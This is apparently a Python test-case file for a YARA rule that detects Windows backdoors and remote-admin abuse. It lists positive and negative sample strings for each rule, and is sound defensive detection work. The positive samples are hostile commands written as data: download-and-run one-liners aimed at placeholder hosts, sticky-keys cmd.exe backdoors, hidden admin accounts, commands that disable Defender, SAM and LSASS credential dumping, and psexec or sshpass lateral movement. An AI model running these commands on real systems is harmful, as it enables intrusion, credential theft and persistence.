"""Cases of ``windows_remote_admin.yar``."""

from __future__ import annotations

from tests.rules_backdoor.make import Case, case, elf, pe, reg, sh, wide

HKLM = "HKEY_LOCAL_MACHINE"
GUID = "{01234567-89AB-CDEF-0123-456789ABCDEF}"

WINDOWS: tuple[Case, ...] = (
    case(
        "win_rdp_file",
        (
            reg(
                HKLM + r"\SYSTEM\CurrentControlSet\Control\Terminal Server",
                '"fDenyTSConnections"=dword:00000000',
            ),
            wide(
                reg(
                    HKLM + r"\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services",
                    '"Shadow"=dword:00000002',
                )
            ),
        ),
        (
            reg(HKLM + r"\SYSTEM\x", '"fDenyTSConnections"=dword:00000001'),
            reg(HKLM + r"\SOFTWARE\Desktop", '"Shadow"=dword:00000002'),
        ),
    ),
    case(
        "win_script_download_run",
        (
            (
                'Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", u, False\r\nh.Send\r\n'
                'Set s = CreateObject("ADODB.Stream")\r\ns.Write h.responseBody\r\n'
                's.SaveToFile p, 2\r\nCreateObject("WScript.Shell").Run p, 0\r\n'
            ),
            wide(
                'var h = new ActiveXObject("WinHttp.WinHttpRequest.5.1"); h.Send(); '
                "eval(h.responseText);"
            ),
            'Set h = CreateObject("Microsoft.XMLHTTP")\nExecuteGlobal h.ResponseText\n',
            (
                'h=CreateObject("msxml2.serverxmlhttp")\nf.OpenTextFile(p).Write h.ResponseText'
                '\nCreateObject("Shell.Application").ShellExecute p\n'
            ),
        ),
        (
            'Set h = CreateObject("MSXML2.XMLHTTP")\r\nMsgBox h.responseText\r\n',
            'Set s = CreateObject("ADODB.Stream")\r\ns.SaveToFile p, 2: o.Run p\r\n',
            'Set h = CreateObject("MSXML2.XMLHTTP")\r\nCreateObject("WScript.Shell").Run "x"\r\n',
            pe("MSXML2.XMLHTTP", "ADODB.Stream", ".SaveToFile", "WScript.Shell", ".Run "),
        ),
    ),
    case(
        "win_rdp_wrapper",
        (
            pe(wide("RDPWInst"), wide("rdpwrap.ini")),
            r"tscon 2 /dest:rdp-tcp#0",
            r"reg add HKLM\x\WinStations\RDP-Tcp /v PortNumber /t REG_DWORD /d 3390 /f",
        ),
        (pe(wide("termsrv.dll")), r"tscon /?", r"reg query HKLM\x\RDP-Tcp /v PortNumber"),
    ),
    case(
        "win_psremoting",
        (
            "Enable-PSRemoting -Force -SkipNetworkProfileCheck\r\n",
            wide("winrm quickconfig -quiet"),
            "Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '*' -Force",
            'winrm set winrm/config/service @{AllowUnencrypted="true"}',
        ),
        (
            "Disable-PSRemoting -Force",
            "winrm enumerate winrm/config/listener",
            "Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value 'console01'",
            "Enable-PSRemoting is not needed",
        ),
    ),
    case(
        "win_ssh_server",
        (
            "Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0",
            "Set-Service -Name sshd -StartupType Automatic\r\nStart-Service sshd\r\n",
        ),
        (
            "Add-WindowsCapability -Online -Name OpenSSH.Client~~~~0.0.1.0",
            "Stop-Service sshd",
        ),
    ),
    case(
        "win_service_create",
        (
            'sc create Helper binPath= "cmd.exe /c C:\\x.bat" start= auto',
            wide('New-Service -Name h -BinaryPathName "C:\\ProgramData\\h.exe"'),
            r"nssm install helper C:\Users\Public\h.exe",
        ),
        (
            'sc create Helper binPath= "C:\\Program Files\\Vendor\\h.exe" start= auto',
            "sc query Helper",
            "Get-Service powershell",
        ),
    ),
    case(
        "win_scheduled_task",
        (
            'schtasks /create /tn up /sc onstart /ru SYSTEM /tr "powershell -File C:\\u.ps1"',
            wide(
                '<?xml version="1.0"?><Task version="1.2"><Triggers><BootTrigger>'
                "</BootTrigger></Triggers><Exec><Command>cmd.exe</Command></Exec></Task>"
            ),
            (
                "$a = New-ScheduledTaskAction -Execute powershell.exe\r\n"
                "Register-ScheduledTask -TaskName u -Action $a -User 'NT AUTHORITY\\SYSTEM'"
            ),
        ),
        (
            'schtasks /create /tn up /sc daily /tr "C:\\Program Files\\Vendor\\up.exe"',
            "schtasks /delete /tn up /f",
            '<Task version="1.2"><CalendarTrigger/><Command>cmd.exe</Command></Task>',
        ),
    ),
    case(
        "win_wmi_subscription",
        (
            (
                "$f = Set-WmiInstance -Class __EventFilter -Arguments $x\r\n"
                "$c = Set-WmiInstance -Class CommandLineEventConsumer -Arguments $y\r\n"
                "Set-WmiInstance -Class __FilterToConsumerBinding -Arguments $z"
            ),
        ),
        (
            "Get-WmiObject -Class __EventFilter\r\nGet-WmiObject __FilterToConsumerBinding",
            "CommandLineEventConsumer",
        ),
    ),
    case(
        "win_anydesk_unattended",
        (
            r'"C:\x\AnyDesk.exe" --install "C:\Program Files (x86)\AnyDesk" --start-with-win',
            "echo n0tr3al | AnyDesk.exe --set-password",
            "ad.anynet.pwd_hash=00112233445566778899aabbccddeeff\n",
            wide("rustdesk.exe --password n0tr3al"),
            reg(HKLM + r"\SOFTWARE\WOW6432Node\TeamViewer", '"PermanentPassword"="x"'),
            (
                "[options]\ncustom-rendezvous-server = 'relay.invalid'\n"
                "verification-method = 'use-permanent-password'\n"
            ),
        ),
        (
            "AnyDesk.exe --version",
            "see anydesk.com for --silent",
            "custom-rendezvous-server = 'relay.invalid'\n",
            reg(HKLM + r"\SOFTWARE\TeamViewer", '"Version"="15"'),
        ),
    ),
    case(
        "win_vnc_unattended",
        (
            "[ultravnc]\r\npasswd=00112233445566778E\r\npasswd2=00112233445566778E\r\n",
            "msiexec /i tightvnc-2.8.msi /qn SET_PASSWORD=1 VALUE_OF_PASSWORD=n0tr3al",
            "rserver3 /silence\r\nrserver3 /start",
        ),
        (
            "[ultravnc]\r\npath=C:\\x\r\n",
            "msiexec /i tightvnc-2.8.msi /qn",
            "\r\npasswd=secret\r\n",
        ),
    ),
    case(
        "win_chinese_remote_tools",
        (
            wide("ToDesk_Setup.exe /S"),
            "[ConfigInfo]\nclientId=123456789\nauthPassEx=00aa11bb22cc\nversion=ToDesk 4\n",
            r"SunloginClient.exe --mod=service",
            pe("无人值守".encode("utf-16-le"), "远程控制".encode("utf-16-le"), "oray.com"),
            pe("无人值守".encode("gbk"), "远程控制".encode("gbk"), wide("todesk.com")),
        ),
        (
            pe("ToDesk"),
            "\nclientId=123456789\n",
            pe("远程控制".encode("utf-16-le")),
            "无人值守 远程控制",
        ),
    ),
    case(
        "win_maintenance_agent",
        (
            "https://relay.invalid/Bin/Client.exe?e=Access&y=Guest&h=relay.invalid&p=443",
            "MeshName=x\nMeshServer=wss://relay.invalid:443/agent.ashx\n",
            wide("AA_v3.exe -service -nogui"),
            "msiexec /i setup.msi /qn IntegratorLogin=x@y.invalid AccountId=00",
        ),
        ("e=Access", "MeshServer=\n", "setup.msi /qn", "supremo.exe"),
    ),
    case(
        "win_lateral_command",
        (
            r"psexec.exe \\10.0.0.7 -u svc -p n0tr3al -s cmd",
            wide(r"wmic /node:scan02 /user:svc process call create calc.exe"),
            "Invoke-Command -ComputerName scan02 -ScriptBlock { Restart-Computer }",
            r"sc \\scan02 start vendor",
        ),
        (
            "psexec -?",
            "wmic process call create notepad.exe",
            "Invoke-Command { Get-Date }",
            "sc start vendor",
        ),
    ),
    case(
        "win_lateral_toolkit",
        (
            pe("OpenSCManagerW", wide("PSEXESVC")),
            pe("RemCom_communicaton"),
            "from impacket.smbconnection import SMBConnection\nc = SMBConnection('a', 'b')\n",
            pe(r"\\%s\ADMIN$", "OpenSCManagerA", "CreateServiceA"),
        ),
        (
            pe("OpenSCManagerW", "CreateServiceW"),
            "PSEXESVC appears in the event log",
            "import impacket",
        ),
    ),
    case(
        "win_admin_share",
        (
            r"net use \\10.0.0.7\C$ n0tr3al /user:administrator",
            wide(r"xcopy u.exe \\scan02\ADMIN$\Temp"),
            sh("smbclient //10.0.0.7/C$ -U svc%n0tr3al -c 'put u.exe'"),
        ),
        (
            r"net use Z: \\archive\images",
            "net use /delete *",
            sh('smbclient //10.0.0.7/pub -U "$U%$P"'),
        ),
    ),
    case(
        "win_mapped_share",
        (
            r"net use Z: \\archive\images /user:scan n0tr3al",
            sh("mount -t cifs //archive/images /mnt -o username=scan,password=n0tr3al"),
            "\n//archive/images /mnt cifs username=scan,password=n0tr3al 0 0\n",
            "//archive/images /mnt cifs username=scan,password=n0tr3al 0 0\n",
        ),
        (
            r"net use Z: \\archive\images /user:scan *",
            sh("mount -t cifs //archive/images /mnt -o credentials=/etc/smb.cred"),
        ),
    ),
    case(
        "win_share_open",
        (
            r"net share all=C:\ /grant:everyone,full",
            "Set-SmbServerConfiguration -EnableSMB1Protocol $true -Force",
            wide("net user guest /active:yes"),
        ),
        (
            r"net share img=D:\img /grant:operators,read",
            "Set-SmbServerConfiguration -EnableSMB1Protocol $false -Force",
        ),
    ),
    case(
        "win_token_policy",
        (
            r"reg add HKLM\x\System /v LocalAccountTokenFilterPolicy /t REG_DWORD /d 1 /f",
            reg(HKLM + r"\x\WDigest", '"UseLogonCredential"=dword:00000001'),
            reg(HKLM + r"\x\Lsa", '"LmCompatibilityLevel"=dword:00000001'),
            wide(reg(HKLM + r"\x\Lsa", '"DisableRestrictedAdmin"=dword:00000000')),
        ),
        (
            reg(HKLM + r"\x\WDigest", '"UseLogonCredential"=dword:00000000'),
            reg(HKLM + r"\x\Lsa", '"LmCompatibilityLevel"=dword:00000005'),
            reg(HKLM + r"\x\System", '"EnableLUA"=dword:00000001'),
        ),
    ),
    case(
        "win_login_screen_shell",
        (
            (
                r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution '
                r'Options\sethc.exe" /v Debugger /d "C:\windows\system32\cmd.exe"'
            ),
            wide(r"copy /y c:\windows\system32\cmd.exe c:\windows\system32\utilman.exe"),
        ),
        (
            r"Image File Execution Options\sethc.exe",
            r"copy c:\windows\system32\utilman.exe c:\backup",
        ),
    ),
    case(
        "win_debugger_redirect",
        (
            r"reg add HKLM\x\Image File Execution Options\scan.exe /v Debugger /d C:\y.exe",
            reg(
                HKLM + r"\x\Image File Execution Options\scan.exe",
                r'"Debugger"="C:\\y.exe"',
            ),
        ),
        (
            reg(
                HKLM + r"\x\Image File Execution Options\scan.exe",
                '"MitigationOptions"=hex:00',
            ),
            r"HKLM\x\Image File Execution Options",
        ),
    ),
    case(
        "win_library_hook",
        (
            reg(HKLM + r"\x\Windows", r'"AppInit_DLLs"="C:\\x\\hook.dll"'),
            r'reg add "HKLM\x\Windows" /v AppInit_DLLs /t REG_SZ /d "C:\x\hook.dll" /f',
            r"netsh add helper C:\x\hook.dll",
        ),
        (
            reg(HKLM + r"\x\Windows", '"AppInit_DLLs"=""', '"LoadAppInit_DLLs"=dword:00000000'),
            pe("AppInit_DLLs"),
        ),
    ),
    case(
        "win_com_hijack",
        (
            rf"reg add HKCU\Software\Classes\CLSID\{GUID}\InprocServer32 /ve /d C:\x.dll",
            wide(reg(rf"HKEY_CURRENT_USER\Software\Classes\CLSID\{GUID}\InprocServer32", '@="x"')),
        ),
        (
            reg(rf"HKEY_CLASSES_ROOT\CLSID\{GUID}\InprocServer32", '@="x"'),
            rf"reg query HKCU\Software\Classes\CLSID\{GUID}",
        ),
    ),
    case(
        "win_portproxy",
        (
            "netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.7",
            wide(reg(HKLM + r"\SYSTEM\ControlSet001\Services\PortProxy\v4tov4\tcp", '"*/1"="a/2"')),
        ),
        ("netsh interface portproxy show all", "netsh interface ip show config"),
    ),
    case(
        "win_hidden_account",
        (
            r"reg add HKLM\x\Winlogon\SpecialAccounts\UserList /v svc /t REG_DWORD /d 0 /f",
            reg(HKLM + r"\x\Winlogon\SpecialAccounts\UserList", '"svc"=dword:00000000'),
            wide("net user help$ n0tr3al /add"),
        ),
        (
            reg(HKLM + r"\x\Winlogon\SpecialAccounts\UserList", '"svc"=dword:00000001'),
            "net user help /active:no",
        ),
    ),
    case(
        "win_account_binary",
        (pe("NetUserAdd", "NetLocalGroupAddMembers", wide("Administrators")),),
        (pe("NetUserAdd", wide("Users")), elf("NetUserAdd", "NetLocalGroupAddMembers")),
    ),
    case(
        "win_firewall_open",
        (
            'netsh advfirewall firewall add rule name="x" dir=in action=allow protocol=TCP',
            "New-NetFirewallRule -DisplayName x -Direction Inbound -LocalPort 22 -Action Allow",
        ),
        (
            'netsh advfirewall firewall add rule name="x" dir=in action=block',
            "New-NetFirewallRule -DisplayName x -Direction Outbound -Action Allow",
        ),
    ),
    case(
        "win_defender_file",
        (
            reg(HKLM + r"\x\Windows Defender", '"DisableAntiSpyware"=dword:00000001'),
            wide("sc stop WinDefend"),
            reg(HKLM + r"\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths", '"C:\\\\"="0"'),
        ),
        (
            reg(HKLM + r"\x\Windows Defender", '"DisableAntiSpyware"=dword:00000000'),
            "sc query WinDefend",
        ),
    ),
    case(
        "win_download_run",
        (
            "certutil -urlcache -split -f http://in.invalid/x.exe x.exe",
            wide("mshta http://in.invalid/x.hta"),
            "Invoke-WebRequest -Uri https://in.invalid/u.exe -OutFile u.exe; Start-Process u.exe",
            "bitsadmin /transfer j /download http://in.invalid/x x",
        ),
        (
            "certutil -hashfile x.exe SHA256",
            "Invoke-WebRequest -Uri https://in.invalid/u.exe -OutFile u.exe",
            "msiexec /i setup.msi",
            "regsvr32 /s x.dll",
        ),
    ),
    case(
        "win_domain_join",
        (
            "Add-Computer -DomainName corp.invalid -Credential $c -Restart",
            sh("net ads join -U svc%n0tr3al"),
            "<Credentials><Domain>x</Domain></Credentials><JoinDomain>corp.invalid</JoinDomain>",
        ),
        (
            "<JoinDomain>corp.invalid</JoinDomain>",
            sh("net ads info"),
            "Add-Computer -WorkGroupName x",
        ),
    ),
    case(
        "win_domain_secrets",
        (
            r"reg save HKLM\SAM C:\x\sam",
            wide('ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q'),
            "rundll32 comsvcs.dll, MiniDump 624 C:\\x.dmp full",
        ),
        (r"reg save HKLM\SOFTWARE C:\x", "ntdsutil help", "MiniDumpWriteDump"),
    ),
    case(
        "win_domain_recon",
        (
            'net group "domain admins" /domain\r\nnltest /dclist:corp\r\n',
            wide("nltest /domain_trusts & net view /domain"),
        ),
        ('net group "domain admins" /domain\r\n', "nltest /sc_query:corp"),
    ),
    case(
        "lateral_subnet_sweep",
        (
            r"for /L %%i in (1,1,254) do ping -n 1 192.168.7.%%i",
            sh("for i in $(seq 1 254); do", "  nc -z 10.1.2.$i 22 && echo $i", "done"),
            sh("nmap -p 445 192.168.7.0/24"),
            wide("1..254 | % { Test-Connection 10.1.2.$_ -Count 1 }"),
        ),
        (
            sh("for i in $(seq 1 254); do echo $i; done"),
            sh("nmap --version"),
            "for /L %%i in (1,1,3) do ping -n 1 gateway",
        ),
    ),
    case(
        "lateral_device_hop",
        (
            (
                "c.connect('10.0.0.7', username='root', password='n0tr3al')\n"
                "c.exec_command('reboot')\n"
            ),
            sh("sshpass -p n0tr3al ssh root@10.0.0.7 reboot"),
            "t = telnetlib.Telnet('10.0.0.7')\nt.write(b'root\\n')\n",
        ),
        (
            "c.connect(host, username=user, password=secret)\nc.exec_command('x')\n",
            "t = telnetlib.Telnet(host)\n",
        ),
    ),
)
